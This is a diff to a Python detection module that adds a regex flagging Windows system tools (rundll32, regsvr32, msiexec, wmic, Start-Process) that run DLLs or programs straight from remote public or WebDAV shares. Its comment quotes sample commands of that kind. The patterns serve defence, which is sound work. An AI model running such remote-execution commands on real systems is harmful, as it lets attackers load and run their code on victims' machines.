@@ -2882,6 +2882,16 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"\bmshta(?:\.exe)?['\"]?\s+['\"]?(?:https?:|javascript:|vbscript:)|\bregsvr32(?:\.exe)?\b[^\n]*/i:\s*['\"]?https?://|\brundll32(?:\.exe)?\b[^\n]*\b(?:javascript|vbscript):",
             _I,
         ),
+        # a DLL, installer or program run straight from a share on a public address or over
+        # WebDAV (`rundll32 \\203.0.113.7\s\x.dll,Entry`, `regsvr32 /s \\host@SSL\d\x.sct`,
+        # `wmic ... process call create "\\203.0.113.7\s\x.exe"`); a share on one's own
+        # network (a private address, a server's name) is how software is deployed
+        re.compile(
+            r"(?:\b(?:rundll32|regsvr32|msiexec|mshta|[cw]script|odbcconf|installutil|regasm|regsvcs)(?:\.exe)?['\"]?\s"
+            r"|\bprocess\s+call\s+create\s|\bStart-Process\s|\bcmd(?:\.exe)?\s+/[ck]\s)"
+            r"[^\n|;&]*?['\"]?\\{2,4}(?:" + _NOT_PRIVATE_IPV4 + r"\d{1,3}(?:\.\d{1,3}){3}|[\w.-]+@(?:SSL|\d{2,5}))(?:@\w+)?\\",
+            _I,
+        ),
         re.compile(
             r"GetObject\s*\(\s*['\"]script:https?://|\bwmic\b[^\n]*/format:\s*['\"]?https?://",
             _I,
